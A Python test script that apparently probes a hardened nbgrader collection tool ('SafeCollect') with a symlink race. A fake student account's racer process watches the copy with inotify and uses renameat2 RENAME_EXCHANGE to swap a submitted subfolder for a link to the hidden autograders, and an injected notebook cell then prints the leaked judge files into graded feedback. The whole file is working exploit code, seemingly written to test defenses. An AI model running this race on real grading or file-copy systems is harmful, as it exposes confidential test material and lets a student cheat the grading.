"""a25 (new code, SafeCollect): a20 with a folder: `sub/` is a folder when copytree lists mallory's inbound folder; at
the listing (+10 ms, 20 files of 2 MB copied first) she exchanges it atomically (renameat2 RENAME_EXCHANGE) with a link
to the checkout's autograders/. copytree recurses into it by path (os.scandir follows the link): are the hidden judges
copied into submitted/ as plain files, which `make grade` then accepts and her kernel reads?"""
from lib import *
A = "ps1_memory"
subprocess.run(["useradd", "-M", "-N", "-u", "2002", "-s", "/usr/sbin/nologin", "mallory"], check=True)
try:
    d = make_course("a25")
    X = "/tmp/attack38-user-a25-exchange"
    if os.path.exists(X): shutil.rmtree(X)
    inbound = f"{X}/distcourse/inbound"; os.makedirs(inbound)
    chown(d); chown(X); os.chmod(f"{X}/distcourse", 0o755); os.chmod(inbound, 0o733)
    mal = honest(A)
    for cell in mal.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "training_memory":
            cell.source = "import os as _os\nif _os.path.exists('sub/ps1_memory.py'):\n    print('JUDGES', sorted(_os.listdir('sub')), open('sub/ps1_memory.py').read()[:90].replace(chr(10), ' '))\n" + cell.source
    tmp = "/tmp/attack38-user-a25-mallory.ipynb"; nbformat.write(mal, tmp); os.chmod(tmp, 0o644)
    p = f"{inbound}/mallory+{A}+2026-11-29 11:00:00.000000 UTC+r"
    racer = f'''
import os, shutil, ctypes, struct, time
p = {p!r}
os.mkdir(p); os.chmod(p, 0o755); shutil.copy({tmp!r}, p + "/{A}.ipynb")
for i in range(20): open(p + f"/pad{{i:02d}}.bin", "wb").write(os.urandom(2 << 20))
os.mkdir(p + "/sub"); open(p + "/sub/x.txt", "w").write("x")
side = {inbound!r} + "/mallory-side"; os.mkdir(side); os.symlink({CLONE + "/autograders"!r}, side + "/l")
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.inotify_init(); libc.inotify_add_watch(fd, p.encode(), 0x20)
print("racer ready", flush=True)
n = 0
while n < 2:
    buf = os.read(fd, 4096); i = 0
    while i < len(buf):
        wd, mask, cookie, ln = struct.unpack_from("iIII", buf, i); i += 16 + ln; n += 1
time.sleep(float(os.environ.get("RACE_DELAY", "0.002")))
AT = -100
r = libc.renameat2(AT, (side + "/l").encode(), AT, (p + "/sub").encode(), 2)
print("racer exchanged", r, ctypes.get_errno(), flush=True)
'''
    r = subprocess.Popen(["setpriv", "--reuid", "2002", "--regid", "100", "--clear-groups", sys.executable, "-c", racer], stdout=subprocess.PIPE, text=True)
    print(r.stdout.readline().strip())
    c = subprocess.run(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", CLONE + "/.venv/bin/nbgrader", "collect", A,
                        f"--Exchange.root={X}"], cwd=d, env=dict(ENV, PATH=CLONE + "/.venv/bin:" + ENV["PATH"], HOME="/tmp"), capture_output=True, text=True)
    print(r.stdout.readline().strip()); r.wait(10)
    print("collect rc", c.returncode, (c.stdout + c.stderr).strip().splitlines()[-1][:200])
    os.system(f"ls -la {d}/submitted/mallory/{A}/sub 2>&1 | head; head -c 200 {d}/submitted/mallory/{A}/sub/ps1_memory.py 2>&1")
    for s_ in ("aaron", "zoe"):
        hand_in(d, s_, A, honest(A))
    grade(d, A)
    scores(d)
    os.system(f"grep -o 'JUDGES[^<]*' {d}/feedback/mallory/{A}/{A}.html | tail -1")
finally:
    subprocess.run(["userdel", "mallory"])
